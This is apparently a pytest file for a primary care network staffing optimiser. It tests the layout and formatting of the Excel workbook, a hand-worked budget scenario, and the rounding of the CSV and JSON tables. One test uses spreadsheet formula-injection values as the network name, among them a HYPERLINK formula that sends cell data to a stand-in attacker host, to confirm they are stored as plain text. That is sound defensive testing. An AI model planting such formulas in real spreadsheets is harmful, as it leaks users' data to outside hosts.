"""The Excel workbook for people, and the rounding of the machine-readable tables (CSV, JSON)."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import openpyxl
import pytest

from optimiser.catalogue import load_catalogue
from optimiser.pipeline import optimise
from optimiser.report import result_json
from optimiser.results import tables
from optimiser.scenario_io import load_scenario
from optimiser.scenario_problems import parse_scenario
from optimiser.workbook import result_workbook
from tests.helpers import small_scenario

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = sorted((ROOT / "scenarios").glob("*.yaml"))
SHEETS = ["Summary", "Staffing mix", "Money", "Care", "What limits you", "Care by role", "Inputs", "Inputs - roles", "Inputs - demand"]


def workbook(result) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(result_workbook(result)))


def rows(sheet) -> dict[str, list]:
    """First column → the rest of its row."""
    return {row[0]: list(row[1:]) for row in sheet.iter_rows(min_row=2, values_only=True)}


def column(sheet, header: str) -> list:
    headers = [c.value for c in sheet[1]]
    j = headers.index(header) + 1
    return [sheet.cell(i, j) for i in range(2, sheet.max_row + 1)]


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.name)
def test_every_sheet_has_worded_headers_with_units_frozen_and_formatted(path):
    result = optimise(load_scenario(path))
    book = workbook(result)
    assert book.sheetnames == SHEETS
    for sheet in book.worksheets:
        headers = [c.value for c in sheet[1]]
        assert not [h for h in headers if re.search(r"[a-z]_[a-z]", h)], f"{sheet.title}: snake_case header"
        assert sheet.freeze_panes == "B2"
        for j, header in enumerate(headers, start=1):
            width = sheet.column_dimensions[openpyxl.utils.get_column_letter(j)].width
            assert width >= min(len(header), 24), f"{sheet.title}: {header} is cut"
    mix = book["Staffing mix"]
    assert {c.number_format for c in column(mix, "ARRS claimed (£ a year)")} == {'"£"#,##0'}
    assert {c.number_format for c in column(mix, "Total (WTE)")} == {"0.00"}
    assert [c.value for c in column(mix, "Role")][0] is not None
    limits = book["What limits you"]
    assert limits.max_row - 1 == len(result.binding_constraints()) + len(result.notes())
    inputs = rows(book["Inputs"])
    assert inputs["PCN name"][0] == result.scenario.pcn.name
    assert inputs["List size (patients)"][0] == result.scenario.pcn.list_size


def test_budget_bound_workbook_shows_the_hand_derived_mix_and_money():
    """ARRS sum = 3 × £66,972 (clinical pharmacist, April 2025 DES, year 2025/26-april) = £200,916: 3.00 WTE, all new, claimed £200,916,
    unspent £0; 3 × 1,000 = 3,000 medication reviews a year served of 5,000 needed (60 %)."""
    amount = float(load_catalogue("2025/26-april").roles.at["clinical_pharmacist", "max_reimbursable_gbp"])
    assert amount == 66_972
    scenario = small_scenario({"clinical_pharmacist": {"medication_review": 1000}}, arrs_sum=3 * amount,
                              demand={"medication_review": 5000})
    book = workbook(optimise(scenario))
    mix = rows(book["Staffing mix"])["Clinical pharmacist"]
    headers = [c.value for c in book["Staffing mix"][1]][1:]
    row = dict(zip(headers, mix))
    assert row["In post (WTE)"] == 0 and row["New (WTE)"] == pytest.approx(3.0) and row["Total (WTE)"] == pytest.approx(3.0)
    assert row["ARRS claimed (£ a year)"] == pytest.approx(200_916, abs=0.01)
    summary = rows(book["Summary"])
    assert summary["ARRS sum (£ a year)"][0] == pytest.approx(200_916)
    assert summary["ARRS unspent (£ a year)"][0] == pytest.approx(0, abs=1.0)
    care = dict(zip([c.value for c in book["Care"][1]][1:], rows(book["Care"])["Medication reviews and medicines optimisation"]))
    assert care["Served (contacts a year)"] == pytest.approx(3000) and care["Served (%)"] == pytest.approx(60)
    assert rows(book["Inputs"])["ARRS sum (£ a year)"][0] == pytest.approx(200_916)


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"])
def test_a_formula_like_pcn_name_opens_as_text(name):
    data = small_scenario({"clinical_pharmacist": {"medication_review": 1000}}, arrs_sum=100_000).model_dump()
    data["pcn"]["name"] = name
    book = workbook(optimise(parse_scenario(data)))
    for sheet, label in (("Summary", "PCN"), ("Inputs", "PCN name")):
        [cell] = [row[1] for row in book[sheet].iter_rows(min_row=2) if row[0].value == label]
        assert cell.value == name and cell.data_type == "s"


def test_csv_and_json_tables_keep_money_to_the_penny_and_wte_to_4_decimals():
    """Every float of every file table has at most 2 decimals if it is money (`gbp` in its name), else 4; the
    JSON carries the same numbers (the solver's 1519308.995513622 is written 1519309.0)."""
    result = optimise(load_scenario(ROOT / "scenarios" / "urban-deprived-2026-27.yaml"))
    for name, frame in tables(result).items():
        for column in frame.columns[frame.dtypes == float]:
            decimals = 2 if "gbp" in column else 4
            values = frame[column].dropna()
            assert (((values * 10**decimals).round() - values * 10**decimals).abs() < 1e-6).all(), f"{name}.{column}"
    summary = tables(result)["summary"].iloc[0]
    assert summary["arrs_claimed_gbp_per_year"] == round(result.summary()["arrs_claimed_gbp_per_year"], 2)
    assert summary["total_wte"] == round(result.summary()["total_wte"], 4)
    data = json.loads(result_json(result))
    assert data["summary"]["arrs_claimed_gbp_per_year"] == summary["arrs_claimed_gbp_per_year"]
    assert data["mix"][0]["total_wte"] == tables(result)["mix"].iloc[0]["total_wte"]
